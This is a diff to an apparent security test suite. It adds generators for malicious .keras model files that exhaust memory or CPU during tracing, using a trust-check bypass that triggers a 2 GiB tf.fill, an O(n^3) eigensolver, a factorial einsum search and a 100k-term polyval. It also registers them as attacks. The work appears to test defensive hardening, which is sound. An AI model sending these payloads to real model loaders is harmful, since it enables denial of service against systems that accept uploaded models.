@@ -671,6 +671,59 @@ def build_config_huge_input(directory) -> Path:
     return write_keras(directory, path.name, config)
 
 
+def keras_op_layer(name: str, class_name: str, config: dict, inputs, dtype="int32",
+                   module="keras.src.ops.numpy") -> dict:
+    """A Keras op (an `Operation`, not a layer: `keras.ops.sum`) called on the layers `inputs`."""
+    return {
+        "module": module,
+        "class_name": class_name,
+        "config": {"name": name, **config},
+        "registered_name": class_name,
+        "name": name,
+        "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {
+            "shape": [], "dtype": dtype, "keras_history": [source, 0, 0]}} for source in inputs],
+            "kwargs": {}}],
+    }
+
+
+def keras_op_fill_bypass(directory, elements: int = 1 << 29) -> Path:
+    """A = `tf.fill([n], 1)`, B = Keras op `keras.ops.sum(A)`, C = `tf.range(B)`: B is rebuilt as
+    trusted, on A's cached real Fill tensor, so the refiner fills n int32 (2 GiB) while tracing."""
+    layers = [input_layer(), op_layer("a", "tf.fill", [[elements], 1]),
+              keras_op_layer("b", "Sum", {"axis": None, "keepdims": False}, ["a"]),
+              op_layer("c", "tf.range", [INPUT0], inputs=["b"])]
+    return write_keras(directory, "keras_op_fill_bypass.keras", model_config(layers))
+
+
+def eigvals_small_output(directory, n: int = 2560) -> Path:
+    """A = `tf.linalg.eigvals` of a stored n x n cyclic-shift matrix (a 40 KB file; n values out,
+    so kept for folding), then abs, sum, `tf.range`: the refiner runs the O(n^3) eigensolver."""
+    values = [[1 if (i - j) % n == 1 else 0 for j in range(n)] for i in range(n)]
+    return chain(directory, "eigvals_small_output.keras", [
+        ("a", "tf.linalg.eigvals", [array("float32", [n, n], values)], {}, ["input"]),
+        ("b", "tf.math.abs", [INPUT0], {}, ["a"]),
+        ("c", "tf.math.reduce_sum", [INPUT0], {}, ["b"]),
+        ("d", "tf.range", [INPUT0], {}, ["c"]),
+    ])
+
+
+def einsum_optimal_path(directory, operands: int = 14) -> Path:
+    """`tf.einsum` of a ring of 14 stored 2x2 matrices with `optimize="optimal"`: opt_einsum's
+    exhaustive path search (factorial in the operand count) runs in Python while tracing."""
+    letters = "abcdefghijklmnopqrstuvwxyz"
+    equation = ",".join(letters[i] + letters[(i + 1) % operands] for i in range(operands)) + "->"
+    matrices = [array("float32", [2, 2], [[1.0, 0.0], [0.0, 1.0]]) for _ in range(operands)]
+    return single_op(directory, "einsum_optimal_path.keras", "tf.einsum",
+                     args=[equation, *matrices], kwargs={"optimize": "optimal"})
+
+
+def polyval_long_list(directory, coefficients: int = 100_000) -> Path:
+    """`tf.math.polyval` with a plain list of 100k zero coefficients (a 2 KB file): its Python
+    loop adds 3 graph ops per coefficient while tracing, minutes and gigabytes."""
+    return single_op(directory, "polyval_long_list.keras", "tf.math.polyval",
+                     args=[[0.0] * coefficients, INPUT0])
+
+
 class Attack(NamedTuple):
     name: str
     weakness: int
@@ -692,7 +745,9 @@ ATTACKS = [
     *(_attack(3, b) for b in (parse_tensor_bomb, decode_image_bomb, decode_png_bomb,
                               decode_compressed_bomb, fill_huge, probe_huge_input,
                               range_constant_value, fill_constant_value, fill_shape_refiner,
-                              decompress_shape_refiner, decode_image_shape_refiner)),
+                              decompress_shape_refiner, decode_image_shape_refiner,
+                              keras_op_fill_bypass, eigvals_small_output, einsum_optimal_path,
+                              polyval_long_list)),
     *(_attack(4, b) for b in (deep_nesting, resource_dtype, variant_dtype_tensor,
                               huge_shape_argument, negative_shape, config_zip_bomb,
                               self_referencing_node, unknown_node_index, slot_out_of_range,
